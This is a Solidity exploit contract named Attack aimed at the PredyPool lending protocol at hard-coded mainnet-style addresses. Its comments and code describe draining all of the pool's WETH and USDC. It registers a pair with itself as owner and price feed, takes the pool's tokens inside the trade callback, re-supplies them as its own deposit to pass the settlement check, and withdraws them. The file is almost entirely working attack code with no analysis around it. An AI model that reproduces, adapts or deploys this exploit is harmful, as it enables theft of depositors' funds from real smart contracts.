// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";

struct RiskParams {
    uint128 riskRatio;
    uint128 debtRiskRatio;
    int24 rangeSize;
    int24 rebalanceThreshold;
    uint64 minSlippage;
    uint64 maxSlippage;
}

struct RateModel {
    uint256 baseRate;
    uint256 kinkRate;
    uint256 slope1;
    uint256 slope2;
}

struct NewPair {
    address marginId;
    address poolOwner;
    address uniswapPool;
    address priceFeed;
    bool whitelistEnabled;
    uint8 fee;
    RiskParams risk;
    RateModel quote;
    RateModel base;
}

struct TradeParams {
    uint256 pairId;
    uint256 vaultId;
    int256 tradeAmount;
    int256 tradeAmountSqrt;
    bytes extraData;
}

/// Six figures of a trade; only their number matters here, because it is part of the callback's selector.
struct Payoff {
    int256 a;
    int256 b;
    int256 c;
    int256 d;
    int256 e;
    int256 f;
}

struct TradeResult {
    Payoff payoff;
    uint256 vaultId;
    int256 fee;
    int256 minMargin;
    int256 averagePrice;
    uint256 sqrtTwap;
    uint256 sqrtPrice;
}

interface PredyPool {
    function registerPair(NewPair calldata pair) external returns (uint256 pairId);
    function trade(TradeParams calldata params, bytes calldata settlement) external;
    function take(bool isQuoteAsset, address to, uint256 amount) external;
    function supply(uint256 pairId, bool isQuoteAsset, uint256 amount) external;
    function withdraw(uint256 pairId, bool isQuoteAsset, uint256 amount) external;
}

/// Takes all WETH and USDC of PredyPool: inside the trade lock it gives borrowed tokens back as its own supply, so
/// that the settlement check passes and the supply can be withdrawn. It is pair owner and price feed itself.
contract Attack {
    PredyPool constant POOL = PredyPool(0x9215748657319B17fecb2b5D086A3147BFBC8613);
    Erc20 constant WETH = Erc20(0x82aF49447D8a07e3bd95BD0d56f35241523fBab1);
    Erc20 constant USDC = Erc20(0xaf88d065e77c8cC2239327C5EDb3A432268e5831);
    address constant UNISWAP_POOL = 0xC6962004f452bE9203591991D15f6b388e09E8D0;

    uint256 private wethTaken;
    uint256 private usdcTaken;

    function attack() external {
        WETH.approve(address(POOL), type(uint256).max);
        USDC.approve(address(POOL), type(uint256).max);
        RateModel memory rate = RateModel(1e16, 9e17, 5e17, 1e18);
        RiskParams memory risk = RiskParams(100_000_001, 0, 1_000, 500, 1_005_000, 1_050_000);
        uint256 pairId = POOL.registerPair(
            NewPair(address(WETH), address(this), UNISWAP_POOL, address(this), false, 0, risk, rate, rate)
        );
        POOL.trade(TradeParams(pairId, 0, 0, 0, ""), "");
        POOL.withdraw(pairId, true, wethTaken);
        POOL.withdraw(pairId, false, usdcTaken);
    }

    /// The pool asks its price feed, which is this contract.
    function getSqrtPrice() external pure returns (uint256) {
        return 40_000_000_000;
    }

    function predyTradeAfterCallback(TradeParams calldata params, TradeResult calldata) external {
        wethTaken = WETH.balanceOf(address(POOL));
        POOL.take(true, address(this), wethTaken);
        POOL.supply(params.pairId, true, wethTaken);
        usdcTaken = USDC.balanceOf(address(POOL));
        POOL.take(false, address(this), usdcTaken);
        POOL.supply(params.pairId, false, usdcTaken);
    }
}
